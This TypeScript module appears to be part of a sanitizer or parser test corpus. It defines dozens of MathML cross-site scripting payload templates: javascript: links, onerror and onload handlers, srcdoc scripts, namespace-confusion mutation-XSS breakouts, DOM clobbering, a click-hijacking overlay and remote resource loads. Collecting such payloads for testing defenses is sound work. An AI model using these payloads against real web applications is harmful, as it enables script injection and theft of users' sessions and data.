import { family } from './payload.ts'

/** MathML, whose leaf elements contain HTML again: parsers disagree there. */
export const MATHML_PAYLOADS = family('maths', {
  link: ({ js }) => `<math href="javascript:${js}">press</math>`,
  'link-xlink': ({ js }) => `<math><mrow xlink:href="javascript:${js}" xlink:type=simple><mi>x</mi></mrow></math>`,
  'link-element': ({ js }) => `<math><a xlink:href="javascript:${js}">press</a></math>`,
  'link-in-text': ({ js }) => `<math><mtext><a href="javascript:${js}">press</a></mtext></math>`,
  action: ({ js }) =>
    `<math><maction actiontype="statusline#${js}" xlink:href="javascript:${js}"><mi>x</mi></maction></math>`,
  click: ({ js }) => `<math><mi onclick="${js}">x</mi></math>`,
  'focus-in': ({ js }) => `<math tabindex=0 autofocus onfocus="${js}"><mi>x</mi></math>`,
  'image-in-text': ({ js }) => `<math><mtext><img src="x:" onerror="${js}"></mtext></math>`,
  'image-in-operator': ({ js }) => `<math><mo><img src="x:" onerror="${js}"></mo></math>`,
  annotation: ({ js }) =>
    `<math><annotation-xml encoding="text/html"><img src="x:" onerror="${js}"></annotation-xml></math>`,
  'annotation-frame': ({ js }) =>
    `<math><semantics><annotation-xml encoding="application/xhtml+xml"><iframe srcdoc="<script>${js}</script>"></iframe></annotation-xml></semantics></math>`,
  'annotation-drawing': ({ js }) => `<math><annotation-xml><svg onload="${js}"></svg></annotation-xml></math>`,
  'glyph-source': ({ url }) => `<math><mglyph src="${url}.png" alt=x /></math>`,
  'break-out': ({ js }) => `<math><p><img src="x:" onerror="${js}"></math>`,
  'break-out-by-font': ({ js }) => `<math><font color=red><img src="x:" onerror="${js}"></font></math>`,
  style: ({ js }) => `<math><style><img src="x:" onerror="${js}"></style></math>`,
  'link-on-identifier': ({ js }) => `<math><mi href="javascript:${js}">x</mi><mn href="javascript:${js}">1</mn></math>`,
  'link-on-row': ({ js }) => `<math><mrow href="javascript:${js}"><mi>x</mi></mrow></math>`,
  'link-spelled-with-space': ({ js }) =>
    `<math><mrow href="java&#10;script:${js}" xlink:href=" javascript:${js}"><mi>x</mi></mrow></math>`,
  'link-on-own-namespace': ({ js }) =>
    `<math xmlns:y="http://www.w3.org/1999/xlink"><mi y:href="javascript:${js}">x</mi></math>`,
  'action-toggle': ({ js }) =>
    `<math><maction actiontype="toggle" onclick="${js}"><mi>x</mi><mtext><img src="x:" onerror="${js}"></mtext></maction></math>`,
  'action-tooltip': ({ js }) =>
    `<math><maction actiontype="tooltip"><mi>x</mi><mtext><iframe srcdoc="<script>${js}</script>"></iframe></mtext></maction></math>`,
  'annotation-page': ({ js }) =>
    `<math><semantics><mi>x</mi><annotation-xml encoding="text/html"><body onload="${js}"><script>${js}</script></body></annotation-xml></semantics></math>`,
  'annotation-encoding-spelled': ({ js }) =>
    `<math><annotation-xml encoding="TEXT/HTML "><img src="x:" onerror="${js}"></annotation-xml></math>`,
  'annotation-plain': ({ js }) =>
    `<math><semantics><mi>x</mi><annotation encoding="application/x-tex"><img src="x:" onerror="${js}"></annotation></semantics></math>`,
  'annotation-source': ({ url }) =>
    `<math><semantics><mi>x</mi><annotation src="${url}.txt"></annotation><annotation-xml src="${url}.xml"></annotation-xml></semantics></math>`,
  'semantics-only': ({ js }) =>
    `<math><semantics onclick="${js}"><mtext><a href="javascript:${js}">press</a></mtext></semantics></math>`,
  'glyph-sources': ({ url }) =>
    `<math><mi><mglyph src="${url}.svg" xlink:href="${url}.png" alt=x></mglyph></mi></math>`,
  'style-loads': ({ url }) =>
    `<math style="background:url(${url}.png)"><mstyle style="background-image:url(${url}.gif)"><mi>x</mi></mstyle></math>`,
  'style-covers': ({ js }) => `<math style="position:fixed;inset:0;z-index:99" onclick="${js}"><mi>x</mi></math>`,
  'colour-loads': ({ url }) =>
    `<math mathbackground="url(${url}.png)" mathcolor="url(${url}.gif)"><mi mathvariant="url(${url}.svg)">x</mi></math>`,
  'variant-breaks-out': ({ js }) => `<math><mi mathvariant='"><img src=x: onerror=${js}>'>x</mi></math>`,
  'source-breaks-out': ({ js }) => `<math data-tex='"><img src=x: onerror=${js}>'><mi>x</mi></math>`,
  'huge-sizes': ({ js }) =>
    `<math><mspace width="999999em" height="999999em" /><mi mathsize="99999em" onmouseover="${js}">x</mi></math>`,
  'namespace-html': ({ js }) => `<math xmlns="http://www.w3.org/1999/xhtml"><script>${js}</script></math>`,
  'namespace-prefix': ({ js }) =>
    `<m:math xmlns:m="http://www.w3.org/1998/Math/MathML"><m:mi href="javascript:${js}" onclick="${js}">x</m:mi></m:math>`,
  'glyph-in-table': ({ js }) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${js}&gt;"></mglyph></table></mtext></math>`,
  'form-and-glyph': ({ js }) => `<form><math><mtext></form><form><mglyph><style></math><img src="x:" onerror="${js}">`,
  'glyph-in-drawing': ({ js }) =>
    `<math><mi><mglyph><svg><mtext><style><path id="</style><img src=x: onerror=${js}>"></path></style></mtext></svg></mglyph></mi></math>`,
  'mark-that-stays': ({ js }) =>
    `<math><mi><malignmark><style><img title="</style><img src=x: onerror=${js}>"></malignmark></mi></math>`,
  'drawing-in-text': ({ js }) =>
    `<math><mtext><svg><foreignObject><math><mi><img src="x:" onerror="${js}"></mi></math></foreignObject></svg></mtext></math>`,
  'comment-in-style': ({ js }) => `<math><style><!--</style><mi title="--><img src=x: onerror=${js}>">x</mi></math>`,
  'nested-math': ({ js }) =>
    `<math><mtext><math><mtext><math href="javascript:${js}"><ms><script>${js}</script></ms></math></mtext></math></mtext></math>`,
  'clobbers-names': () => `<math id="cookie"><mi name="body" id="location">x</mi></math>`,
  'fence-breaks-out': ({ js }) =>
    `<math><mfenced open="<img src=x: onerror=${js}>" close='"><img src=x: onerror=${js}>' separators="<"><mi>x</mi><mi>y</mi></mfenced></math>`,
  'fence-attribute': ({ js }) => `<math><mfenced onclick="${js}" href="javascript:${js}"><mi>x</mi></mfenced></math>`,
  'fence-never-ends': ({ js }) => `<math><mfenced open="("><mi>x</mi><p><img src="x:" onerror="${js}">`,
  'semantics-renamed': ({ js }) =>
    `<math><semantics href="javascript:${js}"><mtext><svg onload="${js}"></svg></mtext><annotation><img src="x:" onerror="${js}"></annotation></semantics></math>`,
  'annotation-hides-end': ({ js }) =>
    `<math><annotation-xml encoding="text/html"><p title="</annotation-xml></math><img src=x: onerror=${js}>"></annotation-xml></math>`,
  'unknown-hides-markup': ({ js }) =>
    `<math><apply><mtext></apply><img src="x:" onerror="${js}"></mtext></apply></math>`,
  'text-holds-table': ({ js }) =>
    `<math><mtext><table><math><mi><img src="x:" onerror="${js}"></mi></math></table></mtext></math>`,
  'text-holds-text': ({ js }) =>
    `<math><mtext><mtext><mglyph><title><img src="x:" onerror="${js}"></title></mglyph></mtext></mtext></math>`,
  'text-in-broken-table': ({ js }) =>
    `<table><math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${js}&gt;">`,
  'self-closed-text': ({ js }) => `<math><mtext/><img src="x:" onerror="${js}"></math>`,
  'values-that-load': ({ url, js }) =>
    `<math alttext="<img src=x: onerror=${js}>" notation="url(${url}.png)" columnlines="url(${url}.gif)"><mi altimg="${url}.svg">x</mi></math>`,
  cdata: ({ js }) => `<math><![CDATA[><img src="x:" onerror="${js}">]]></math>`,
})
